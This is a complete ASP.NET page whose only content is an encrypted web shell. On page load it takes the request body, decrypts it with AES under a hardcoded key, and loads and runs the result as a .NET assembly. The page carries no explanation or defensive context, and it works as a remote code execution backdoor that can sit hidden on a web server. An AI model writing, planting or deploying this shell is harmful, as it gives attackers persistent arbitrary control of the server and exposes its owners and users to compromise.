<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    byte[] key = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
    byte[] body = Request.BinaryRead(Request.ContentLength);
    byte[] raw = new RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
    Assembly.Load(raw).CreateInstance("U").Equals(this);
}
</script>
